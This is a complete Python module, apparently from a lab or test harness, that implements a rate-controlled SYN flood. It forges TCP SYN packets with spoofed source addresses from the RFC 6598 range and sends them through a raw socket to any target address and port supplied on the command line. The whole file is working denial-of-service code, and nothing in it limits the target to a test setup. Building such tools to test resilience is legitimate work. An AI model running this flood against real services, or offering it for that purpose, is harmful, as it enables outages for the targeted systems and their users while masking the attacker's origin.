"""``python -m lab.syn_flood``: SYNs of clients that do not exist, at a steady rate.

Prints ``{"event": "ready"}``, sends until standard input has a line or ends, and prints ``{"event": "sent", "syns":
COUNT}``.
"""

import argparse
import random
import select
import socket
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from ipaddress import IPv4Address

from scapy.layers.inet import IP, TCP

from lab.commands import say

_CLIENTS = int(IPv4Address("100.64.0.0")), 1 << 22
"""The shared address space (RFC 6598): the first address, and their number."""


@dataclass(frozen=True)
class Syn:
    """The particulars of one SYN."""

    source: str
    port: int
    sequence: int


def syns(seed: int) -> Iterator[Syn]:
    """Return the SYNs in the order in which they are sent."""
    pick = random.Random(seed)
    while True:
        source = IPv4Address(_CLIENTS[0] + pick.randrange(_CLIENTS[1]))
        yield Syn(str(source), pick.randrange(1024, 65536), pick.randrange(1 << 32))


def main() -> int:
    """The command."""
    parser = argparse.ArgumentParser(prog="python -m lab.syn_flood", description="SYNs of unknown clients.")
    parser.add_argument("--to", required=True, help="address of the service")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--rate", type=float, required=True, help="SYNs per second")
    parser.add_argument("--seed", type=int, default=1, help="of the clients' addresses")
    options = parser.parse_args()
    outgoing = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    say("ready")
    begin, sent, coming = time.monotonic(), 0, syns(options.seed)
    while not select.select([sys.stdin], [], [], max(begin + sent / options.rate - time.monotonic(), 0))[0]:
        each = next(coming)
        syn = IP(src=each.source, dst=options.to)
        syn /= TCP(flags="S", seq=each.sequence, sport=each.port, dport=options.port)
        outgoing.sendto(bytes(syn), (options.to, 0))
        sent += 1
    say("sent", syns=sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
